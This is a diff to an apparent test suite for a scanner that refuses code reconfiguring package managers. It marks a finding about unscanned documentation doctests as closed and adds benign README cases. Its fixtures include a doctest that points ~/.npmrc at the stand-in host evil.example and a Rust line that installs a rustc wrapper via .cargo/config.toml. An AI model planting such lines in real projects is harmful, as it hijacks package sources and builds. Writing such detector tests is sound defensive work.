@@ -657,7 +657,8 @@ const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
 // O (medium): documentation the project runs as tests (Rust's `#![doc = include_str!("../README.md")]`, pytest's
 // `--doctest-glob='*.md'`, Sybil): managerSetting skips documentation, so a doctest writing `~/.npmrc`, the repository's
 // `.cargo/config.toml` (every later cargo call in the job: a rustc wrapper, a replaced registry) or a manager's
-// environment passes, where the same line in a .py or .rs file is refused.
+// environment passes, where the same line in a .py or .rs file is refused. Closed (session 49): managerSetting reads a
+// documentation file's doctest prompts and Rust blocks (doc-tests.ts) as the code they are.
 const DOCTESTS_CONFIGURE: FindingRow[] = [
   ['README.md', "```python\n>>> import os\n>>> open(os.path.expanduser('~/.npmrc'), 'w').write('registry=https://evil.example/')\n```"],
   ['README.md', '```rust\nstd::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();\n```'],
@@ -822,7 +823,7 @@ describeFindings('attack-48', [
   ['review M4 spellings named closed', closedRows(SPELLINGS_NAMED_CLOSED)],
   ['review M4 spellings named closed, over lines', closedRows(SPELLINGS_NAMED_CLOSED_OPEN)],
   ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
-  ['O doctests configure', DOCTESTS_CONFIGURE],
+  ['O doctests configure', closedRows(DOCTESTS_CONFIGURE)],
   // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
   ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
 ]);
@@ -1078,8 +1079,8 @@ describeAccepted('attack-48 T: decoded data stays accepted', [
   ['src/x.py', "import subprocess\nsubprocess.run(['xxd', '-r', '-p', 'in.hex', 'out.bin'], check=True)"],
 ]);
 
-/** Dependencies in source and initializers over lines (F and M4's readings, session 49): what stays accepted. */
-describeAccepted('attack-48 F, M4: ordinary source stays accepted', [
+/** Dependencies in source, initializers over lines, doctests (F, M4 and O's readings, session 49): what stays accepted. */
+describeAccepted('attack-48 F, M4, O: ordinary source and documentation stay accepted', [
   ['src/gen.go', '//go:generate stringer -type=Pill'],
   ['src/gen.go', '//go:generate go run ./cmd/gen'],
   ['src/main.scala', '//> using scala 3.3.1'],
@@ -1090,6 +1091,9 @@ describeAccepted('attack-48 F, M4: ordinary source stays accepted', [
   ['src/tool.py', '# Usage: uv run tool.py\nimport sys'],
   ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "test",\n    UseShellExecute = false,\n};'],
   ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "build -c Release",\n};'],
+  ['README.md', "To use a mirror, set `PIP_INDEX_URL`:\n```bash\nexport PIP_INDEX_URL=https://mirror.example/simple\n```"],
+  ['README.md', "Write `~/.npmrc` with `registry=https://r.example/`.\n```toml\n[build]\nrustc-wrapper = \"sccache\"\n```"],
+  ['README.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
 ]);
 
 /** Calls read further (R's readings, session 48): commands named apart from their calls, text after a closed call. */
